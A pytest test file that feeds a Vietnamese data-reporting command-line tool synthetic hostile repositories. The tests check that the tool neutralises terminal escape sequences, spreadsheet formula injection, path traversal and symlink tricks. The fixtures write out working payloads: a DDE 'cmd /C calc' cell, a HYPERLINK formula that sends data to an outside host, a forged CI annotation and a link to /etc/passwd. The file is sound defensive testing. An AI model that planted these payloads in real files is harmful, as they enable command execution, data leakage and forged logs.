"""Hostile repositories against the surfaces that landed with issue 21 (issues 19, 20, 23): standard
files, `xhht standards`, `evaluate`, `scorecard`, `missing`, `form --each`, folded problems. The rules
are those of docs/security.md. Repositories here are SYNTHETIC fixtures."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

from conftest import PLAN, problems_of, run, write_repo
from xhht.cli.docgen import STANDARD

INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HEADER = "indicator,area,period,value,numerator,denominator,source,note\n"
DATA = HEADER + "ti-le,901,2022,85,,,synthetic,\nso-luong,901,2022,120,,,synthetic,\nchuan-thu-ct1,901,2022,60,,,synthetic,\n"


def _standard(**replace: str) -> str:
    text = STANDARD
    for old, new in replace.items():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text


def _repo(tmp_path: Path, plan: str = PLAN, standard: str = STANDARD) -> Path:
    root = write_repo(tmp_path / "repo", plans={"demo.yaml": plan}, data={"d.csv": DATA})
    (root / "standards").mkdir()
    (root / "standards" / "thu.yaml").write_text(standard, encoding="utf-8")
    return root


# ---------------------------------------------------------------- YAML escapes are characters of the file


# A double-quoted YAML scalar writes any character as an escape: the file's bytes are plain ASCII, so the
# reader's scan (safe_io.decode) sees nothing, and the parsed text holds ESC, BEL, U+202E, U+2028, NUL.
ESCAPED = r'"Tỷ lệ \x1b]0;pwn\x07 \u202e \L \0 \e[2J"'


def _escaped_repo(tmp_path: Path) -> Path:
    plan = PLAN.replace("name: Tỷ lệ", f"name: {ESCAPED}", 1)
    return _repo(tmp_path, plan, _standard(**{"title: Chuẩn thử (synthetic)": f"title: {ESCAPED}"}))


def test_control_characters_written_as_yaml_escapes_are_bad_characters(tmp_path):
    root = _escaped_repo(tmp_path)
    found = {(p.file, p.line) for p in problems_of(root) if p.code == "bad-character"}
    assert found == {("plans/demo.yaml", 14), ("standards/thu.yaml", 2)}
    r = run("check", cwd=root)
    assert r.returncode == 1 and "U+001B ESCAPE" in r.stdout and not INVISIBLE.search(r.stdout), r.stdout
    r = run("standards", cwd=root)  # a standard with an error is not used (so `evaluate` never sees the text)
    assert r.returncode == 1 and "chuan-thu" not in r.stdout and not INVISIBLE.search(r.stdout), r.stdout


@pytest.mark.parametrize("args", [
    ("standards",), ("standards", "-f", "json"), ("status",), ("report", "-f", "html"), ("report", "-f", "md"),
    ("scorecard", "--year", "2022"), ("missing", "demo", "--year", "2022"),
    ("form", "demo", "--year", "2022", "-o", "OUT.xlsx"), ("missing", "demo", "--year", "2022", "-f", "xlsx", "-o", "OUT.xlsx"),
    ("scorecard", "--year", "2022", "-f", "xlsx", "-o", "OUT.xlsx"),
])
def test_no_command_prints_or_writes_a_control_character_from_a_yaml_escape(tmp_path, args):
    root = _escaped_repo(tmp_path)
    out = tmp_path / "out.xlsx"
    r = run(*[str(out) if a == "OUT.xlsx" else a for a in args], cwd=root)
    assert r.returncode in (0, 1) and "Traceback" not in r.stderr, r.stderr
    assert "lỗi nội bộ" not in r.stderr, r.stderr
    assert not INVISIBLE.search(r.stdout) and not INVISIBLE.search(r.stderr), r.stdout
    if out.exists():
        with zipfile.ZipFile(out) as z:
            xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))
        assert "pwn" in xml and not INVISIBLE.search(xml.replace("\n", "").replace("\r", "").replace("\t", ""))


# ---------------------------------------------------------------- every workbook writes text as text

LINK = '=HYPERLINK("http://x.invalid/?"&D3,"Bấm vào đây")'


def _formula_repo(tmp_path: Path) -> Path:
    plan = PLAN.replace("name: Tỷ lệ", f"name: '{LINK}'", 1).replace("title: Nhóm a", "title: '＝1+1'", 1)
    standard = _standard(**{"title: Chuẩn thử (synthetic)": f"title: '{LINK}'",
                            "levels: [Chưa đạt, Đạt]": "levels: ['-Chưa đạt', '=Đạt']",
                            'at: {Đạt: ">= 50"}': 'at: {"=Đạt": ">= 50"}',
                            'code: "1"': 'code: "=1"', "name: Tỷ lệ thử": "name: '@SUM(1+1)'"})
    root = _repo(tmp_path, plan, standard)
    (root / "areas.csv").write_text("code,name,level,parent\n90,Tỉnh Thử,tinh,\n901,\"=cmd|' /C calc'!A0\",huyen,90\n"
                                    "902,+Huyện Hai,huyen,90\n", encoding="utf-8")
    return root


@pytest.mark.parametrize("args", [
    ("form", "demo", "--year", "2022"), ("missing", "demo", "--year", "2022", "-f", "xlsx"),
    ("scorecard", "--year", "2022", "-f", "xlsx"), ("evaluate", "chuan-thu", "--year", "2022", "-f", "xlsx"),
    ("report", "demo", "-p", "2022", "-f", "xlsx"),
])
def test_every_workbook_writes_text_that_looks_like_a_formula_as_text(tmp_path, args):
    from openpyxl import load_workbook

    from xhht.base.safetext import formula_like

    root = _formula_repo(tmp_path)
    out = tmp_path / "out.xlsx"
    r = run(*args, "-o", str(out), cwd=root)
    assert r.returncode == 0, r.stdout + r.stderr
    with zipfile.ZipFile(out) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    looks = [c for c in cells if formula_like(c.value)]
    assert looks and all(c.data_type == "s" and c.quotePrefix for c in looks), [(c.coordinate, c.value) for c in looks
                                                                             if not c.quotePrefix]


# ---------------------------------------------------------------- folded problems name their places as data


def test_the_places_of_folded_problems_reach_no_log_as_control_characters(tmp_path):
    root = _repo(tmp_path)
    names = ["a", "b\n::warning file=README.md::FORGED", "c\x1b]0;pwn\x07", "d\u202e"]
    for name in names:  # four identical problems (a link leading out), folded into the first
        (root / "standards" / f"{name}.yaml").symlink_to("/etc/passwd")
    for fmt in ("text", "github", "json"):
        r = run("check", "-f", fmt, cwd=root)
        assert r.returncode == 1 and "pwn" in r.stdout and "FORGED" in r.stdout, r.stdout + r.stderr
        assert not INVISIBLE.search(r.stdout), (fmt, r.stdout)
        lines = r.stdout.splitlines()
        if fmt == "github":
            assert all(line.startswith(("::error file=", "::warning file=")) for line in lines), lines
            assert sum("title=outside-repo" in line for line in lines) == 1


# ---------------------------------------------------------------- -o never onto an input of the new commands


@pytest.mark.parametrize("target", ["standards/thu.yaml", "standards/new.md", "reports/bao-cao.md", "reports/new.xlsx",
                                    "standards/../areas.csv"])
def test_no_command_writes_onto_standards_or_reports(tmp_path, target):
    root = _repo(tmp_path)
    (root / "reports").mkdir()
    (root / "reports" / "bao-cao.md").write_text("---\ntitle: x\n---\n", encoding="utf-8")
    fmt = ["-f", "xlsx"] if target.endswith(".xlsx") else []
    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file() and ".xhht" not in p.parts}
    for args in (["report"], ["scorecard", "--year", "2022"], ["missing", "demo", "--year", "2022"],
                 ["evaluate", "chuan-thu", "--year", "2022"], ["form", "demo", "--year", "2022"]):
        r = run(*args, *(fmt if args[0] in ("scorecard", "missing", "evaluate") else []), "-o", target, cwd=root)
        assert r.returncode == 2 and "-o" in r.stderr, (args, r.stdout, r.stderr)
    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file() and ".xhht" not in p.parts} == before


# ---------------------------------------------------------------- form --each writes only its forms, into DIR


@pytest.mark.parametrize("code", ["../../evil/x", "a/b", "..", ".an", "x y", "c:\\x", "a|b"])
def test_an_area_code_that_is_no_file_name_is_an_error_and_never_a_path(tmp_path, code):
    root = _repo(tmp_path)
    with (root / "areas.csv").open("a", encoding="utf-8") as f:
        f.write(f'"{code}",Huyện Giả,huyen,90\n')
    assert ("area-bad-code", "areas.csv", 5) in {(p.code, p.file, p.line) for p in problems_of(root)}
    out = tmp_path / "forms" / "a"
    r = run("form", "demo", "--year", "2022", "--each", "huyen", "-o", str(out), cwd=root)
    assert r.returncode in (0, 1), r.stdout + r.stderr
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.xlsx"))
    assert written == ["forms/a/901.xlsx", "forms/a/902.xlsx"], written


def test_form_each_replaces_no_link_in_its_folder(tmp_path):
    root = _repo(tmp_path)
    out = root / "bieu"
    out.mkdir()
    (out / "901.xlsx").symlink_to(root / "plans" / "demo.yaml")  # committed by a pull request
    before = (root / "plans" / "demo.yaml").read_bytes()
    r = run("form", "demo", "--year", "2022", "--each", "huyen", "-o", "bieu", "--replace", cwd=root)
    assert r.returncode == 2 and "901.xlsx" in r.stderr, r.stdout + r.stderr
    assert (out / "901.xlsx").is_symlink() and not (out / "902.xlsx").exists()
    assert (root / "plans" / "demo.yaml").read_bytes() == before


# ---------------------------------------------------------------- holds_for: one rule, worded, in plans and standards


@pytest.mark.parametrize("value", ["1000000000000000000000000000000", "0", "-3", "2.5", '"3"', "1e999999999"])
def test_a_standards_holds_for_out_of_bounds_is_bad_holds_for_in_the_run_s_language(tmp_path, value):
    root = _repo(tmp_path, standard=_standard(**{"levels: [Chưa đạt, Đạt]": f"levels: [Chưa đạt, Đạt]\n  holds_for: {value}"}))
    found = [p for p in problems_of(root) if p.file == "standards/thu.yaml"]
    assert [(p.code, p.line) for p in found] == [("bad-holds-for", 9)], found
    r = run("check", cwd=root)
    assert r.returncode == 1 and "error[bad-holds-for]" in r.stdout and "input should" not in r.stdout, r.stdout


def test_check_warns_of_formula_like_text_in_a_standard_as_in_a_plan(tmp_path):
    """A standard's words reach evaluate's workbook (written safely) and the spreadsheets an officer
    copies them into by hand: `check` says which would be read as a formula, at their lines."""
    root = _formula_repo(tmp_path)
    found = {p.params["text"] for p in problems_of(root) if p.code == "formula-text" and p.file == "standards/thu.yaml"}
    assert {LINK, "-Chưa đạt", "=Đạt", "@SUM(1+1)"} <= found, found
    clean = _repo(tmp_path / "clean")
    assert not [p for p in problems_of(clean) if p.code == "formula-text"]


def test_check_warns_of_formula_like_sources_and_notes_in_data(tmp_path):
    """SYNTHETIC. Officers open data/*.csv in a spreadsheet, and `import` writes what a commune typed
    into them: a figure's source or note that a spreadsheet reads as a formula is `formula-text`
    at its cell, on every row that has it (the fast path remembers no such text), the figure kept."""
    data = HEADER + (f'ti-le,90,2022,85,,,"{LINK.replace(chr(34), chr(34) * 2)}",\n'
                     "so-luong,90,2022,120,,,synthetic,@SUM(1+1)\n"
                     "so-luong,90,2021,110,,,synthetic,@SUM(1+1)\n"
                     "so-luong,90,2020,100,,,synthetic,ghi chú\n")
    root = write_repo(tmp_path, data={"d.csv": data})
    found = [(p.line, p.column, p.params["text"], p.severity) for p in problems_of(root) if p.code == "formula-text"]
    assert found == [(2, 7, LINK, "warning"), (3, 8, "@SUM(1+1)", "warning"), (4, 8, "@SUM(1+1)", "warning")], found
    from xhht.repo import load_repo
    assert len(load_repo(root).figures) == 4
    assert run("check", cwd=root).returncode == 0 and run("check", "--strict", cwd=root).returncode == 1
